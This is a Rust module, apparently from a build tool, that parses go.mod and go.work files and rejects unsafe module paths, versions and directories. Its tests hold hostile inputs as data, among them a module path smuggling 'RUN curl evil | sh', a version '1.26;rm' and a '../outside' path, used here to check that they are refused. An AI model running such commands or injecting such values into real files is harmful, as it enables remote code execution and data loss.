//! Reading go.mod and go.work: directives with their line numbers, blocks, quoted strings and
//! comments, following the syntax the go command accepts. Values are checked here, at the edge,
//! so nothing unsafe reaches a plan.

use crate::facts::DetectError;

/// One directive: its verb, arguments and 1-based line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Directive {
    pub verb: String,
    pub args: Vec<String>,
    pub line: usize,
}

/// A value read from a file, with its line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Located {
    pub value: String,
    pub line: usize,
}

/// What shiplight needs of a go.mod.
#[derive(Debug, Clone)]
pub struct GoMod {
    pub module: Located,
    pub go: Option<Located>,
    pub toolchain: Option<Located>,
    /// Required module paths (direct and indirect).
    pub requires: Vec<Located>,
}

/// What shiplight needs of a go.work.
#[derive(Debug, Clone)]
pub struct GoWork {
    pub go: Option<Located>,
    pub toolchain: Option<Located>,
    /// Module directories, relative to the go.work directory, without a leading `./`.
    pub uses: Vec<Located>,
}

/// Parses a go.mod file; `file` names it in errors.
pub fn parse_go_mod(file: &str, text: &str) -> Result<GoMod, DetectError> {
    let mut module = None;
    let mut go = None;
    let mut toolchain = None;
    let mut requires = Vec::new();
    for directive in directives(file, text)? {
        match directive.verb.as_str() {
            "module" => {
                let path = single_arg(file, &directive)?;
                check_module_path(file, directive.line, &path)?;
                module = Some(Located {
                    value: path,
                    line: directive.line,
                });
            }
            "go" => go = Some(go_version(file, &directive)?),
            "toolchain" => toolchain = Some(toolchain_version(file, &directive)?),
            "require" => {
                let path = directive.args.first().cloned().unwrap_or_default();
                check_module_path(file, directive.line, &path)?;
                requires.push(Located {
                    value: path,
                    line: directive.line,
                });
            }
            _ => {}
        }
    }
    let module = module.ok_or_else(|| broken(file, None, "has no module directive"))?;
    Ok(GoMod {
        module,
        go,
        toolchain,
        requires,
    })
}

/// Parses a go.work file; `file` names it in errors.
pub fn parse_go_work(file: &str, text: &str) -> Result<GoWork, DetectError> {
    let mut go = None;
    let mut toolchain = None;
    let mut uses = Vec::new();
    for directive in directives(file, text)? {
        match directive.verb.as_str() {
            "go" => go = Some(go_version(file, &directive)?),
            "toolchain" => toolchain = Some(toolchain_version(file, &directive)?),
            "use" => {
                let dir = single_arg(file, &directive)?;
                uses.push(Located {
                    value: clean_relative_dir(file, directive.line, &dir)?,
                    line: directive.line,
                });
            }
            _ => {}
        }
    }
    if uses.is_empty() {
        return Err(broken(
            file,
            None,
            "has no use directive, so it names no module",
        ));
    }
    Ok(GoWork {
        go,
        toolchain,
        uses,
    })
}

fn broken(file: &str, line: Option<usize>, cause: impl Into<String>) -> DetectError {
    DetectError::Broken {
        file: file.to_string(),
        line,
        cause: cause.into(),
    }
}

fn single_arg(file: &str, directive: &Directive) -> Result<String, DetectError> {
    match directive.args.as_slice() {
        [one] => Ok(one.clone()),
        _ => Err(broken(
            file,
            Some(directive.line),
            format!("{} takes exactly one argument", directive.verb),
        )),
    }
}

fn go_version(file: &str, directive: &Directive) -> Result<Located, DetectError> {
    let version = single_arg(file, directive)?;
    if !is_go_version(&version) {
        return Err(broken(
            file,
            Some(directive.line),
            format!("invalid go version {version:?}: expected a release such as 1.26 or 1.26.3"),
        ));
    }
    Ok(Located {
        value: version,
        line: directive.line,
    })
}

fn toolchain_version(file: &str, directive: &Directive) -> Result<Located, DetectError> {
    let name = single_arg(file, directive)?;
    let version = name.strip_prefix("go").unwrap_or("");
    if name != "default" && !is_go_version(version) {
        return Err(broken(
            file,
            Some(directive.line),
            format!("invalid toolchain {name:?}: expected a name such as go1.26.3"),
        ));
    }
    Ok(Located {
        value: name,
        line: directive.line,
    })
}

/// `1`, `1.26`, `1.26.3`, `1.27rc1`: digits and dots, optionally a pre-release suffix.
pub fn is_go_version(version: &str) -> bool {
    let numeric_end = version
        .find(|c: char| !(c.is_ascii_digit() || c == '.'))
        .unwrap_or(version.len());
    let (numbers, suffix) = version.split_at(numeric_end);
    !numbers.is_empty()
        && numbers.split('.').all(|part| !part.is_empty())
        && numbers.split('.').count() <= 3
        && (suffix.is_empty()
            || ((suffix.starts_with("rc") || suffix.starts_with("beta"))
                && suffix
                    .trim_start_matches(char::is_alphabetic)
                    .chars()
                    .all(|c| c.is_ascii_digit())))
}

/// Major and minor of a Go version, as numbers (`1.26.3` -> (1, 26)).
pub fn major_minor(version: &str) -> Option<(u32, u32)> {
    let numeric: String = version
        .chars()
        .take_while(|c| c.is_ascii_digit() || *c == '.')
        .collect();
    let mut parts = numeric.split('.');
    let major = parts.next()?.parse().ok()?;
    let minor = parts.next().map_or(Some(0), |minor| minor.parse().ok())?;
    Some((major, minor))
}

fn check_module_path(file: &str, line: usize, path: &str) -> Result<(), DetectError> {
    let ok = !path.is_empty()
        && path.len() <= 400
        && path
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-._~/+".contains(c));
    if ok {
        Ok(())
    } else {
        Err(DetectError::Unsafe {
            file: file.to_string(),
            line: Some(line),
            field: "module path".to_string(),
            value: path.to_string(),
            allowed: "Go module paths use letters, digits and - . _ ~ / + only".to_string(),
        })
    }
}

/// A `use` directory as a clean relative path: no leading `./`, no `..`, no absolute path.
fn clean_relative_dir(file: &str, line: usize, dir: &str) -> Result<String, DetectError> {
    let trimmed = dir.trim_start_matches("./").trim_end_matches('/');
    let trimmed = if trimmed == "." { "" } else { trimmed };
    let ok = !dir.starts_with('/')
        && trimmed.split('/').all(|part| part != ".." && part != ".")
        && trimmed
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-._/".contains(c));
    if ok {
        Ok(trimmed.to_string())
    } else {
        Err(DetectError::Unsafe {
            file: file.to_string(),
            line: Some(line),
            field: "use directory".to_string(),
            value: dir.to_string(),
            allowed: "a directory inside the workspace, named with letters, digits and - . _ /"
                .to_string(),
        })
    }
}

/// Splits a go.mod-style file into directives, expanding `verb ( ... )` blocks.
pub fn directives(file: &str, text: &str) -> Result<Vec<Directive>, DetectError> {
    let mut out = Vec::new();
    let mut block: Option<(String, usize)> = None;
    for (index, raw) in text.lines().enumerate() {
        let line = index + 1;
        let tokens = tokenize(raw).map_err(|cause| broken(file, Some(line), cause))?;
        if tokens.is_empty() {
            continue;
        }
        if let Some((verb, _)) = &block {
            if tokens == [")"] {
                block = None;
            } else {
                out.push(Directive {
                    verb: verb.clone(),
                    args: tokens,
                    line,
                });
            }
            continue;
        }
        let verb = tokens[0].clone();
        if !verb.chars().all(|c| c.is_ascii_lowercase()) {
            return Err(broken(
                file,
                Some(line),
                format!("unexpected {verb:?}: expected a directive"),
            ));
        }
        if tokens.len() == 2 && tokens[1] == "(" {
            block = Some((verb, line));
        } else {
            out.push(Directive {
                verb,
                args: tokens[1..].to_vec(),
                line,
            });
        }
    }
    if let Some((verb, line)) = block {
        return Err(broken(
            file,
            Some(line),
            format!("the {verb} block is never closed"),
        ));
    }
    Ok(out)
}

/// Tokens of one line: words, "quoted" and `raw` strings, `(` and `)`; `//` starts a comment.
fn tokenize(line: &str) -> Result<Vec<String>, String> {
    let mut tokens = Vec::new();
    let mut at = 0;
    while let Some(c) = line[at..].chars().next() {
        match c {
            c if c.is_whitespace() => at += c.len_utf8(),
            '/' if line[at + 1..].starts_with('/') => break,
            '"' => {
                let mut chars = line[at + 1..].char_indices();
                let mut value = String::new();
                loop {
                    match chars.next() {
                        None => return Err("unterminated quoted string".to_string()),
                        Some((end, '"')) => {
                            at += 1 + end + 1;
                            break;
                        }
                        Some((_, '\\')) => match chars.next() {
                            Some((_, escaped)) => value.push(escaped),
                            None => return Err("unterminated quoted string".to_string()),
                        },
                        Some((_, other)) => value.push(other),
                    }
                }
                tokens.push(value);
            }
            '`' => {
                let rest = &line[at + 1..];
                let end = rest
                    .find('`')
                    .ok_or_else(|| "unterminated raw string".to_string())?;
                tokens.push(rest[..end].to_string());
                at += 1 + end + 1;
            }
            '(' | ')' => {
                at += 1;
                tokens.push(c.to_string());
            }
            _ => {
                let (word, end) = word(&line[at..]);
                tokens.push(word.to_string());
                match end {
                    Some(end) => at += end,
                    None => break,
                }
            }
        }
    }
    Ok(tokens)
}

/// The word `text` starts with (up to whitespace, a parenthesis or a quote) and where it ends
/// in `text`; `None` for the end when a `//` comment starts inside it, which takes the rest of
/// the line.
fn word(text: &str) -> (&str, Option<usize>) {
    for (at, c) in text.char_indices() {
        if c.is_whitespace() || matches!(c, '(' | ')' | '"' | '`') {
            return (&text[..at], Some(at));
        }
        if c == '/' && at > 0 && text[..at].ends_with('/') {
            return (&text[..at - 1], None);
        }
    }
    (text, Some(text.len()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reads_module_go_toolchain_and_requires() {
        let text = "module example.com/api // the api\n\ngo 1.26\ntoolchain go1.26.3\n\nrequire (\n\tgithub.com/mattn/go-sqlite3 v1.14.22 // indirect\n\tmodernc.org/sqlite v1.30.0\n)\nrequire golang.org/x/sys v0.20.0\n";
        let m = parse_go_mod("go.mod", text).unwrap();
        assert_eq!(m.module.value, "example.com/api");
        assert_eq!(m.go.unwrap().value, "1.26");
        assert_eq!(m.toolchain.unwrap().line, 4);
        let paths: Vec<_> = m
            .requires
            .iter()
            .map(|r| (r.value.as_str(), r.line))
            .collect();
        assert_eq!(
            paths,
            [
                ("github.com/mattn/go-sqlite3", 7),
                ("modernc.org/sqlite", 8),
                ("golang.org/x/sys", 10)
            ]
        );
    }

    #[test]
    fn lines_split_into_words_strings_and_parentheses() {
        let tokens = |line| tokenize(line).unwrap();
        assert_eq!(
            tokens("require (\tx.org/a v1.0.0 // indirect"),
            ["require", "(", "x.org/a", "v1.0.0"]
        );
        assert_eq!(tokens("replace a/b//c => ./d"), ["replace", "a/b"]);
        assert_eq!(tokens("use /abs/dir)x"), ["use", "/abs/dir", ")", "x"]);
        assert_eq!(
            tokens("module \"a\\\"b\" `r\\aw`\u{3000}é.ü"),
            ["module", "a\"b", "r\\aw", "é.ü"]
        );
        assert_eq!(tokens("  // only a comment"), Vec::<String>::new());
        assert_eq!(tokenize("x `open").unwrap_err(), "unterminated raw string");
    }

    #[test]
    fn quoted_module_path() {
        let m = parse_go_mod("go.mod", "module \"example.com/q\"\n").unwrap();
        assert_eq!(m.module.value, "example.com/q");
    }

    #[test]
    fn errors_name_file_and_line() {
        let err = parse_go_mod("go.mod", "module x\nrequire (\n a v1\n").unwrap_err();
        assert_eq!(
            err.to_string(),
            "go.mod:2: the require block is never closed"
        );
        let err = parse_go_mod("go.mod", "go 1.26\n").unwrap_err();
        assert_eq!(err.to_string(), "go.mod: has no module directive");
        let err = parse_go_mod("go.mod", "module x\ngo banana\n").unwrap_err();
        assert!(
            err.to_string().starts_with("go.mod:2: invalid go version"),
            "{err}"
        );
        let err = parse_go_mod("go.mod", "module \"x\n").unwrap_err();
        assert_eq!(err.to_string(), "go.mod:1: unterminated quoted string");
    }

    #[test]
    fn hostile_module_path_is_refused() {
        let err = parse_go_mod("go.mod", "module \"ex\\nRUN curl evil | sh\"\n").unwrap_err();
        assert!(matches!(err, DetectError::Unsafe { .. }), "{err}");
    }

    #[test]
    fn workspace_uses() {
        let w =
            parse_go_work("go.work", "go 1.26\n\nuse (\n\t./api\n\t./lib/\n)\nuse .\n").unwrap();
        let dirs: Vec<_> = w.uses.iter().map(|u| u.value.as_str()).collect();
        assert_eq!(dirs, ["api", "lib", ""]);
        assert!(parse_go_work("go.work", "use ../outside\n").is_err());
        assert!(parse_go_work("go.work", "go 1.26\n").is_err());
    }

    #[test]
    fn versions() {
        assert!(is_go_version("1.26"));
        assert!(is_go_version("1.26.3"));
        assert!(is_go_version("1.27rc1"));
        assert!(!is_go_version("1.26;rm"));
        assert!(!is_go_version(""));
        assert_eq!(major_minor("1.26.3"), Some((1, 26)));
        assert_eq!(major_minor("1.27rc1"), Some((1, 27)));
    }
}
